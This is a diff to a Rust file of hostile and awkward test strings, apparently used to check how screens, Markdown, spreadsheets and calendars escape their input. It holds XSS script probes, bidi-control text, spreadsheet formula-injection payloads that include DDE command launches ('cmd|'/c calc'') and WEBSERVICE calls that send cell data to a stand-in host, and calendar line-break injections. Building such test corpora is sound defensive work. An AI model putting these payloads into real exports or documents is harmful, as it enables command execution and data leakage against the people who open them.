@@ -1,6 +1,6 @@
-//! Hostile and awkward texts: lists A1, A3 and A5 of the reliability research.
+//! Hostile and awkward texts: for screens, tables, Markdown, calendars, and in every script.
 
-/// A1: screen and HTML. Grows with every bug.
+/// Screen and HTML. Grows with every bug.
 pub const HTML: &[&str] = &[
     "<script>__hit=1</script>",
     "<ScRiPt>__hit=1</sCrIpT>",
@@ -66,7 +66,7 @@ pub const HTML: &[&str] = &[
     "&lt;script&gt;__hit=1&lt;/script&gt;",
 ];
 
-/// A3: Markdown, and what else renderers make something of.
+/// Markdown, and what else renderers make something of.
 pub const MARKDOWN: &[&str] = &[
     "# head",
     "head #",
@@ -125,7 +125,7 @@ pub const MARKDOWN: &[&str] = &[
     "a\u{A0}b\u{3000}",
 ];
 
-/// A5: text in every script, and texts that break things.
+/// Text in every script, and texts that break things.
 pub const TEXT: &[&str] = &[
     "\u{202E}reversed",
     "\u{2066}isolate without end",
@@ -143,4 +143,68 @@ pub const TEXT: &[&str] = &[
     "SA15 3AA, 01554 000000",
     "Mae’r tegell wedi berwi: ŵ ŷ â ê",
     "Zażółć gęślą jaźń",
+];
+
+/// Cells that a spreadsheet would calculate, and cells that only look so.
+pub const TABLE: &[&str] = &[
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "=HYPERLINK(\"http://x.test\",\"click\")",
+    "=WEBSERVICE(\"http://x.test/\"&A1)",
+    "=IMPORTXML(\"http://x.test\",\"//a\")",
+    "=IMAGE(\"http://x.test/a.png\")",
+    "=cmd|'/c calc'!A0",
+    "@cmd|'/c calc'!A0",
+    "=DDE(\"cmd\";\"/c calc\";\"x\")",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u{A0}=1+1",
+    "\u{FEFF}=1+1",
+    "\u{FF1D}1+1",
+    "'=1+1",
+    "\"=1+1",
+    "=1+2\";=1+2",
+    "=1+2'\" ;,=1+2",
+    "a,\"=1+1\"",
+    "a;=1+1",
+    "a\n=1+1",
+    "--note",
+    "-5",
+    "+44 20 7946 0000",
+    "=",
+    "@",
+    "007",
+    "1e5",
+    "3/4",
+    "2026-03-03",
+    "TRUE",
+    "mailto:a@x.test",
+    "http://x.test",
+];
+
+/// What breaks lines of calendars and parts of documents.
+pub const CALENDAR: &[&str] = &[
+    "A\r\nATTENDEE:mailto:a@x.test",
+    "A\nEND:VCALENDAR",
+    "A\rB",
+    "a;b,c\\d",
+    "\\n\\N\\;\\,",
+    "a:b \"c\" d",
+    "a\u{0}b",
+    "a\u{B}b",
+    "a\u{C}b",
+    "a\u{1F}b",
+    "a\u{85}b",
+    "a\u{FFFE}b",
+    "a\u{2028}b\u{2029}c",
+    "]]>",
+    "&amp;",
+    "<w:t>",
+    "{ INCLUDEPICTURE \"http://x.test\" }",
+    "_x000D_",
+    "_x0041_ and _x005F_x0041_",
 ];
